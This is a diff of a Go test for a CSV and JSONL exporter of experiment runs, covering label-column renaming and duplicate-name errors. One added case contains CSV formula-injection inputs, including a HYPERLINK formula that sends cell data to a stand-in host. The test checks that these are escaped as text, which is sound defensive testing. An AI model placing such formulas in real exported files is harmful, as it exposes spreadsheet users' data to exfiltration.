@@ -61,14 +61,24 @@ func TestTidyCSVAndJSONL(t *testing.T) {
 			wantJSONL: `{"setting":"s","note":"a,\"b\"","seed":1,"round":1,"accuracy":1}` + "\n",
 		},
 		{
-			name:    "a label named like a metric",
-			runs:    []Run{exportRun("s", map[string]string{"accuracy": "high"}, 1, map[string]float64{"accuracy": 1})},
-			wantErr: `"accuracy" is both a label and a metric`,
+			name: "a label named like a metric or a fixed column is label.NAME",
+			runs: []Run{exportRun("lr-0.1", map[string]string{"lr": "0.1", "round": "r", "rule": "gaa"}, 1, map[string]float64{"accuracy": 1, "lr": 0.1})},
+			wantCSV: "setting,label.lr,label.round,rule,seed,round,accuracy,lr\n" +
+				"lr-0.1,0.1,r,gaa,1,1,1,0.1\n",
+			wantJSONL: `{"setting":"lr-0.1","label.lr":"0.1","label.round":"r","rule":"gaa","seed":1,"round":1,"accuracy":1,"lr":0.1}` + "\n",
 		},
 		{
-			name:    "a label named round",
-			runs:    []Run{exportRun("s", map[string]string{"round": "1"}, 1, map[string]float64{"accuracy": 1})},
-			wantErr: `"round" is both a label and a metric or fixed column`,
+			name:    "label.NAME taken by another label",
+			runs:    []Run{exportRun("s", map[string]string{"accuracy": "high", "label.accuracy": "x"}, 1, map[string]float64{"accuracy": 1})},
+			wantErr: `two columns are named "label.accuracy"`,
+		},
+		{
+			name: "formulas in setting names, labels and label names are text",
+			runs: []Run{exportRun(`=HYPERLINK("http://x.example/?"&A1,"click")`, map[string]string{"@cmd": "+SUM(A1)", "tab": "\tx", "cr": "\rx", "neg": "-0.5", "minus": "-x"}, 1,
+				map[string]float64{"accuracy": -1})},
+			wantCSV: "setting,'@cmd,cr,minus,neg,tab,seed,round,accuracy\n" +
+				`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+SUM(A1),"'` + "\r" + `x",'-x,-0.5,'` + "\tx,1,1,-1\n",
+			wantJSONL: `{"setting":"=HYPERLINK(\"http://x.example/?\"\u0026A1,\"click\")","@cmd":"+SUM(A1)","cr":"\rx","minus":"-x","neg":"-0.5","tab":"\tx","seed":1,"round":1,"accuracy":-1}` + "\n",
 		},
 		{
 			name:      "no runs: the header alone",
